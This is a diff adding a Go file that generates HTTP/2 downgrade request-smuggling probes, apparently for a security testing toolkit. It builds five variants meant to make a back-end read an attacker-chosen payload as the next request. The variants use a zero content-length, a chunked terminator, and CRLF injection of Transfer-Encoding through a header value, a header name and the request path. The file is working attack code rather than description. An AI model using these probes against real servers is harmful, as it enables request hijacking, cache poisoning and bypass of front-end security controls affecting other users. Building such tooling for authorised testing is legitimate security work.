@@ -0,0 +1,73 @@
+package http2
+
+// ============================================================================
+// HTTP/2 Downgrade Smuggling
+// ============================================================================
+
+// DowngradeProbe is an HTTP/2 request crafted to exploit front-ends that
+// rewrite HTTP/2 into HTTP/1.1 without validating header fields
+type DowngradeProbe struct {
+	// Name labels the technique, e.g. "h2.cl" or "h2.te-crlf-value"
+	Name string
+
+	// Request is the crafted HTTP/2 request
+	Request *Request
+
+	// HeaderBlock is the field list as sent in the HEADERS frame
+	HeaderBlock []HeaderField
+
+	// HTTP1 is the HTTP/1.1 message a naive downgrading proxy would forward
+	HTTP1 []byte
+}
+
+// NewDowngradeProbe wraps req with its header block and downgraded HTTP/1.1 bytes
+func NewDowngradeProbe(name string, req *Request) DowngradeProbe {
+	return DowngradeProbe{
+		Name:        name,
+		Request:     req,
+		HeaderBlock: req.BuildHeaderBlock(),
+		HTTP1:       req.BuildAsHTTP1(),
+	}
+}
+
+// DowngradeProbes returns the standard h2→h1 smuggling variants of base,
+// each trying to make the back-end treat smuggled as the start of the next request:
+//   - h2.cl: content-length 0 with smuggled as the body
+//   - h2.te: transfer-encoding chunked with a terminating chunk before smuggled
+//   - h2.te-crlf-value: transfer-encoding injected through a CRLF in a header value
+//   - h2.te-crlf-name: transfer-encoding injected through a CRLF in a header name
+//   - h2.path-space: transfer-encoding injected through spaces and CRLF in :path
+//
+// Framing headers of base are dropped; base should use a method with a body (e.g. POST)
+func DowngradeProbes(base *Request, smuggled []byte) []DowngradeProbe {
+	chunked := append([]byte("0\r\n\r\n"), smuggled...)
+
+	variant := func(body []byte, edit func(r *Request)) *Request {
+		r := base.Clone()
+		r.Headers.Del("content-length")
+		r.Headers.Del("transfer-encoding")
+		r.Body = append([]byte(nil), body...)
+		r.RawBody = nil
+		r.EndStream = false
+		edit(r)
+		return r
+	}
+
+	return []DowngradeProbe{
+		NewDowngradeProbe("h2.cl", variant(smuggled, func(r *Request) {
+			r.Headers.Add("content-length", "0")
+		})),
+		NewDowngradeProbe("h2.te", variant(chunked, func(r *Request) {
+			r.Headers.Add("transfer-encoding", "chunked")
+		})),
+		NewDowngradeProbe("h2.te-crlf-value", variant(chunked, func(r *Request) {
+			r.Headers.Add("foo", "bar\r\nTransfer-Encoding: chunked")
+		})),
+		NewDowngradeProbe("h2.te-crlf-name", variant(chunked, func(r *Request) {
+			r.Headers.Add("foo: bar\r\ntransfer-encoding", "chunked")
+		})),
+		NewDowngradeProbe("h2.path-space", variant(chunked, func(r *Request) {
+			r.Path += " HTTP/1.1\r\nTransfer-Encoding: chunked\r\nX-Ignore: x"
+		})),
+	}
+}